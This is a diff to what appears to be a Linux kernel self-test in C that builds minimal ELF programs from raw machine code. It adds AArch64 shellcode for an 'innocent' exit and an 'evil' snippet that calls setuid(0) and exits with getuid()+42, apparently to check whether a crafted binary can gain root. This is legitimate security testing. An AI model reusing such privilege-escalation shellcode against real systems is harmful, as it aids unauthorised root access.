@@ -20,6 +20,9 @@
 #define LOAD_ADDRESS	0x400000UL
 #define IS_ROOT		42
 
+#ifdef __x86_64__
+#define MACHINE		EM_X86_64
+
 /* exit(0) */
 static const unsigned char innocent[] = {
 	0x31, 0xff,				/* xor %edi,%edi */
@@ -39,6 +42,28 @@ static const unsigned char evil[] = {
 	0xb8, 0x3c, 0x00, 0x00, 0x00,		/* mov $60,%eax */
 	0x0f, 0x05,				/* syscall */
 };
+#else
+#define MACHINE		EM_AARCH64
+
+/* exit(0) */
+static const unsigned int innocent[] = {
+	0xd2800000,	/* mov x0,#0 */
+	0xd2800ba8,	/* mov x8,#93 */
+	0xd4000001,	/* svc #0 */
+};
+
+/* setuid(0); exit(getuid() + 42) */
+static const unsigned int evil[] = {
+	0xd2800000,	/* mov x0,#0 */
+	0xd2801248,	/* mov x8,#146 */
+	0xd4000001,	/* svc #0 */
+	0xd28015c8,	/* mov x8,#174 */
+	0xd4000001,	/* svc #0 */
+	0x9100a800,	/* add x0,x0,#42 */
+	0xd2800ba8,	/* mov x8,#93 */
+	0xd4000001,	/* svc #0 */
+};
+#endif
 
 /* A whole program in one page. */
 static void make_program(char *page, const void *code, size_t size)
@@ -50,7 +75,7 @@ static void make_program(char *page, const void *code, size_t size)
 	memset(page, 0, PAGE_SIZE);
 	memcpy(header->e_ident, ELFMAG "\2\1\1", SELFMAG + 3);
 	header->e_type = ET_EXEC;
-	header->e_machine = EM_X86_64;
+	header->e_machine = MACHINE;
 	header->e_version = EV_CURRENT;
 	header->e_entry = LOAD_ADDRESS + entry;
 	header->e_phoff = sizeof(*header);
